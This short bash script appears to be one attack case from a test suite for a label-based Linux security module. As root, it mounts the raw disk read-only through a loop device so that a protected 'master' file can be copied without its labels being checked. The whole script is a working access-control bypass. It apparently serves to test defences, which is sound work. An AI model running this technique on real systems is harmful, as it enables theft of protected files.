#!/usr/bin/env bash
# technique: a loop device over the raw disk makes a second file system of it, where no label lies
# hooks: file_open (of a block device that holds masters), sb_mount
# lock: vault
# sink: usb
# as: root

. attack.sh
where=$(on_disk "$MASTER")
sync -f "$MASTER"
mkdir "$TEMP/view"
loop=$(losetup --find --show --read-only "${where% *}") || exit
mount -o ro,noload "$loop" "$TEMP/view" && cat "$TEMP/view${where#* }" >"$COPY"
until_true umount "$TEMP/view"
losetup -d "$loop"
